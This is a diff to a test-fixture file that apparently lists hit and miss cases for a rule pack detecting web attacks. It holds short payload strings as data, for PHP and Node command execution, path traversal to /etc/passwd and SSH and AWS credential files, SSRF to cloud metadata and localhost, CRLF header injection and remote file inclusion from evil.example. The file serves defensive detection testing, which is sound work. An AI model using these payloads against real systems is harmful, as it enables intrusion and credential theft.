+    misses: ["Object.prototype.toString", "mdn/__defineGetter__"],
   },
   115110: {
-    hits: ["<?php echo 1;", "system($_GET['x'])", "$_POST['a']", "eval('x')"].slice(0, 3),
-    misses: ["PHP is a language", "<?xml version='1.0'?>", "the system (old)", "$post"],
+    hits: ["<?php echo 1;", "<?= $x", "<? system('x')"],
+    misses: ["PHP is a language", "<?xml version='1.0'?>"],
   },
+  115120: {
+    hits: ["system($_GET['x'])", "file_get_contents('/etc/x')", "eval(base64_decode('x'))"],
+    misses: ["the system (old)", "eval(x)"],
+  },
+  115121: { hits: ["system('id');", "print md5(1)", "die(md5(3))"], misses: ["print (paper)", "the system ('x')"] },
+  115130: { hits: ["$_POST['a']", "${@print(1)}", "$GLOBALS['x']"], misses: ["$post", "$_"] },
   117110: {
     hits: ["require('child_process')", "process.mainModule.x", "execSync('id')", "global.process.exit()"],
-    misses: ["this process.", "require(d)", "a global process", "res.end"],
+    misses: ["this process.", "require(d)", "a global process"],
   },
-  119110: {
-    hits: ['<!--#exec cmd="id"-->', "<!-- #include file='x' -->", '<esi:include src="x"/>'],
-    misses: ["<!-- a comment -->", "# echo", "include it"],
-  },
-  119120: {
-    hits: ["<xsl:value-of select='x'/>", "document('file:///x')", "php:function('x')", "system-property('x')"],
-    misses: ["the document (old)", "xsl style", "a system property"],
-  },
+  117111: { hits: ["while(1)", "res.end('x')"], misses: ["while (a)", "the res.end"] },
   119130: {
-    hits: ["__import__('os')", "os.system('id')", "subprocess.Popen(x)", "exec('x')"],
-    misses: ["import os", "a subprocess", "os.path", "execute"],
+    hits: ["__import__('os')", "os.system('id')", "subprocess.Popen(x)"],
+    misses: ["import os", "a subprocess", "os.path"],
+  },
+  119140: {
+    hits: ["IO.popen('id')", "%x(id)", "os.execute('x')", "x.instance_eval('y')"],
+    misses: ["io port", "File.open(x)", "%x"],
+  },
+  120110: {
+    hits: ["\\immediate\\write18{id}", '\\input{|"id"}', "\\directlua{x}"],
+    misses: ["\\frac{1}{2}", "\\input{chapter}"],
+  },
+  120120: { hits: ["\\openin\\file=/x", "\\input{/etc/x}", "\\newwrite\\x"], misses: ["\\frac{1}{2}", "\\sqrt{x}"] },
+};
+
+/** Cases of the rules about paths, addresses and protocols. */
+const PLACES: Readonly<Record<string, RuleCases>> = {
+  104110: {
+    hits: ["../../etc/x", "..\\..\\windows\\x", "....//....//x", "..;/..;/x"],
+    misses: ["see ../docs", "wait...", "1..10", "v1.2..v1.3"],
+  },
+  104111: { hits: ["/a/../b", "../etc/x", "..\\windows", "/../x"], misses: ["see ../docs", "a/b/c.txt", "/.../x"] },
+  104112: { hits: ["%2e%2e%2fsecret", "%c0%ae%c0%ae%2f", "\uff0e\uff0e/x"], misses: ["a%2eb", "50%2"] },
+  104113: { hits: ["..%2fetc", "..%255cx", "..%c0%afx", "..\u2215x"], misses: ["100%..200%", "...%20etc."] },
+  104114: { hits: ["..%c0%9vetc", "..2f..2fx", "..0x5c..0x5cx"], misses: ["..2..3", "a..b..c"] },
+  104115: { hits: ["etc%c0%afpasswd", "x/etc\\hosts"], misses: ["etc. hosts", "etcetera"] },
+  104116: { hits: ["/..../..../", "/............/x"], misses: ["wait....", "a/../b"] },
+  104120: { hits: ["/etc/passwd", "file:/etc/shadow", "/etc/ssh/sshd_config"], misses: ["etc/other", "etc. groups"] },
+  104121: { hits: ["/proc/self/environ", "/proc/1/maps", "/run/secrets/x"], misses: ["the proc macro", "/process/1"] },
+  104122: {
+    hits: ["c:\\windows\\win.ini", "\\inetpub\\wwwroot", "boot.ini"],
+    misses: ["windows 11", "C:\\Users\\ana\\Documents", "http://windows.example"],
+  },
+  104123: {
+    hits: ["/home/x/.ssh/id_rsa", "/.git/config", "/WEB-INF/web.xml", "/.aws/credentials"],
+    misses: ["my.env.name", "https://github.com/x", "/users/5"],
+  },
+  104124: { hits: ["/var/log/auth.log", "/usr/local/apache2/x", "/opt/lampp/x"], misses: ["the log", "/variables/x"] },
+  104130: {
+    hits: ["php://filter/read=x", "file:///etc/x", "phar://x.phar", "expect://id"],
+    misses: ["php: a language", "zip code: 12345", "file: report.pdf"],
+  },
+  104140: { hits: ["a.php%00.png", "x.jsp\u0000.jpg", "y%2500"], misses: ["100%", "20%005"] },
+  104150: {
+    hits: ["\\\\203.0.113.9\\share", "\\\\evil@80\\x", "\\\\.\\pipe"],
+    misses: ["\\\\server\\share\\report", "//cdn.example/x"],
+  },
+  105110: {
+    hits: ["http://127.0.0.1/", "http://0/", "http://[::1]/", "http://localtest.me/"],
+    misses: ["http://localhost:3000/users", "http://8.8.8.8/"],
+  },
+  105111: {
+    hits: ["http://10.1.2.3:8080/x", "https://192.168.0.1/", "http://172.16.0.1"],
+    misses: ["https://api.example.com/10.0.0.1", "rtsp://10.0.0.1", "http://11.1.1.1"],
+  },
+  105112: {
+    hits: ["http://0x7f000001/", "http://2130706433/", "http://0177.0.0.1/", "http://[::ffff:7f00:1]/"],
+    misses: ["http://8.8.8.8/", "https://0604013.mock.example/"],
+  },
+  105113: {
+    hits: ["http://\u2460\u2461\u2466.0.0.1", "http://127\u30020.0.1"],
+    misses: ["http://example.com/\u2460", "\u2460"],
+  },
+  105114: { hits: ["http://x.nip.io", "https://a.oastify.com"], misses: ["nip.io", "https://example.com/x.nip.io"] },
+  105115: {
+    hits: ["http://metadata.google.internal/", "http://x.svc.cluster.local/", "http://db.internal/"],
+    misses: ["https://internal.example.com/", "the metadata"],
+  },
+  105116: {
+    hits: ["http://good.example#@evil.example/", "http://127.0.0.1@evil.example", "http://a.example\\@b.example"],
+    misses: ["https://example.com/#top", "https://me@example.com/"],
+  },
+  105120: {
+    hits: ["gopher://x.example/_", "dict://x:11211/", "ldap://x.example/", "file:///x"],
+    misses: ["mailto:a@b.example", "tcp: a protocol", "postgres://db.example/x"],
+  },
+  105130: {
+    hits: ["/latest/meta-data/iam", "169.254.169.254", "/computeMetadata/v1/"],
+    misses: ["the latest metadata", "169.254 is a prefix"],
+  },
+  105140: {
+    hits: ["https://localhost:22/", "http://x.example/?u=http://localhost", "http://localhost:6379"],
+    misses: ["http://localhost:3000/users", "localhost", "run it on localhost"],
+  },
+  105141: { hits: ["http://localhost", "https://localhost/"], misses: ["http://localhost:3000", "localhost"] },
+  109110: {
+    hits: ["x%0d%0aSet-Cookie:a=b", "%0aLocation:x", "\\r\\nX-Forwarded-For: 1", "%E5%98%8A%E5%98%8DSet-Cookie:x"],
+    misses: ["Dear%20Ana%0D%0AHello", "10%0 off"],
+  },
+  109111: {
+    hits: ["x\r\nSet-Cookie: a=b", "a\nHTTP/1.1 200", "a\u560aLocation: x"],
+    misses: ["line one\nline two", "Hi\r\n\r\nTopic: x", "cookie: yes"],
+  },
+  109112: { hits: ["%0D%0A<b>", "%0a%3cx", "%0d%0aX-Test:y"], misses: ["%0D%0ADear", "a%20b"] },
+  109113: { hits: ["%0d%0a", "%0%0d%0ad", "%5cr%5cn"], misses: ["%20", "a%0ab"] },
+  109120: {
+    hits: ["a@b.example\r\nBcc: c@d.example", "a@b.example%0aTo:c", "x\nbcc: e@f.example"],
+    misses: ["From: a@b.example", "see\nto: all"],
+  },
+  116110: {
+    hits: ["http://evil.example/shell.txt?", "?page=http://e.example/x.php"],
+    misses: ["https://x.example/a.txt", "https://x.example/?u=https://y.example/"],
+  },
+  116120: {
+    hits: ["include('http://e/x')", "?f=data:text/plain;base64,AAAA"],
+    misses: ["include x", "data:image/png;base64,AAAA"],
   },
 };
+
+/** Cases of every rule of the own pack, by its number. */
+export const CASES: Readonly<Record<string, RuleCases>> = { ...QUERIES, ...MARKUP, ...CODE, ...PLACES };
